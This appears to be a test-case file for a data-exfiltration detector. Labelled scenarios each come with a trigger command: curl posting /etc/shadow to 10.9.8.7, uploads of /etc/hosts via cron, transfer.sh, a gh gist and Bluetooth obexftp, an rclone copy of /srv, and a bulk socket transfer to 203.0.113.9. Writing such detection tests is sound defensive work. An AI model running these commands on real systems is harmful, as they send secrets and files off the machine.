## Secrets uploaded
curl -s -F f=@/etc/shadow https://10.9.8.7/
## Upload by a server's command
#also Download tool started by a server
#also Shell of a server connects out
#also Shell started by a network server
server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
## Copy to a cloud storage
#setup stubs /usr/bin/rclone
rclone copy /srv remote:x
## Data put into the names of DNS queries
ask_dns A 30 60
## Much sent to the internet
#also Code without a file connects to an address without a name
python3 -c '
import socket, threading
server = socket.create_server(("203.0.113.9", 443))
def take():
  peer, _ = server.accept()
  while peer.recv(1 << 20): pass
taking = threading.Thread(target=take); taking.start()
client = socket.create_connection(("203.0.113.9", 443))
for n in range(1010): client.sendall(bytes(1_000_000))
client.close(); taking.join()'
## Upload started by a timer
#setup shells /usr/sbin/cron
/usr/sbin/cron -c 'sh -c "curl -s -T /etc/hosts http://10.9.8.7/; :"; :'
## Archive cut into pieces
echo x > /tmp/x.tar; split -b 1 /tmp/x.tar /tmp/part
## File left at a service for anybody
curl -s -m 1 -T /etc/hosts https://transfer.sh/x
## Text left in a repository of code
#setup stubs /usr/bin/gh
gh gist create /etc/hosts
## Other way out of the machine opened
#setup stubs /usr/bin/obexftp
obexftp -b 00:11:22:33:44:55 -p /etc/hosts
